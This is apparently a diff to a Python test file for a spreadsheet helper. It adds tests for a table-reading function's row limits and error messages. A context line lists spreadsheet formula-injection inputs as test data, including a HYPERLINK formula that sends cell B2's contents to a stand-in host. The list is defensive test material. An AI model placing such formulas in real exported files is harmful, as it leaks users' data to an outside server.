@@ -10,7 +10,7 @@ import re
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from zhicheng.common.spreadsheet import row_cells, text_cell
+from zhicheng.common.spreadsheet import TableReadError, row_cells, table_read, text_cell
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&B2,"张三")', "=1+1", "+1", "-1", "@A1", "\t=1+1", "𠮷😀", "１２３"]
 
@@ -49,3 +49,40 @@ def test_every_workbook_the_system_writes_uses_the_helper():
         if re.search(r"\bWorkbook\(", text) and "zhicheng.common.spreadsheet" not in text:
             offenders.append(str(path.relative_to(root)))
     assert not offenders, f"spreadsheets written without zhicheng.common.spreadsheet: {offenders}"
+
+
+def _xlsx(rows: list[list]) -> bytes:
+    workbook = Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+def _csv(rows: list[list]) -> bytes:
+    return "\n".join(",".join(str(c) for c in row) for row in rows).encode("utf-8")
+
+
+@pytest.mark.parametrize("make, name", [(_csv, "名单.csv"), (_xlsx, "名单.XLSX")])
+def test_table_read_refuses_too_many_rows_with_that_reason(make, name):
+    """The too-many-rows reason reaches the user as itself in both formats (an xlsx over the limit was
+    reported as "无法读取该 Excel 文件" while TableReadError was a ValueError the reader caught)."""
+    data = make([["姓名", "金额"], *[[f"人{i}", i] for i in range(5)]])
+    assert len(table_read(data=data, file_name=name, max_rows=6)) == 6
+    with pytest.raises(TableReadError, match="文件超过 5 行，请分批导入"):
+        table_read(data=data, file_name=name, max_rows=5)
+
+
+@pytest.mark.parametrize("data, name, reason", [
+    (b"a,b", "x.xls", "请上传 CSV 或 Excel（.xlsx）文件"),
+    (b"not a zip", "x.xlsx", "无法读取该 Excel 文件，请确认是 .xlsx 格式"),
+    ("姓名,金额\n张三,1".encode("gb18030"), "x.csv", None),  # GB18030, what Excel in Chinese saves
+    (b"a," + b"x" * 200_000, "x.csv", "CSV 文件格式有误，无法读取"),  # a field over csv's size limit
+])
+def test_table_read_reasons(data, name, reason):
+    if reason is None:
+        assert table_read(data=data, file_name=name, max_rows=10) == [["姓名", "金额"], ["张三", "1"]]
+        return
+    with pytest.raises(TableReadError, match=re.escape(reason)):
+        table_read(data=data, file_name=name, max_rows=10)
